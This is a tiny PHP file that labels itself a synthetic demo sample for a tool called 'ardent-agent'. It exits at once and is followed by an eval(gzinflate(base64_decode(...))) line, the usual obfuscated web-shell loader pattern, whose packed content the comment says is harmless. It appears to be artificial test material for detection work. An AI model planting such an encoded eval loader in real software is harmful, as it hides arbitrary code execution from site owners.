<?php
// SYNTHETIC DEMO SAMPLE for ardent-agent. Not a working web shell: the script
// stops on the next line, and the packed text below decodes to a comment.
exit;
eval(gzinflate(base64_decode('HY1BCsIwFET3PcUshCq0Zq+rYgsKagrNpojIJ/m1YtJIWpXe3uBm4DGPGSHQtGe1r9Rhh7I6SdRFe5RFic4HUDA8TDndY2bwg51B0N65yBtMPcNReHKA70CJEFHh3D4GxtiztRn4Q3a5uNWyUZdUO5NeV1tksfXfEe9X9DX/dyzNHMZ4yDCsvWGzTn4=')));
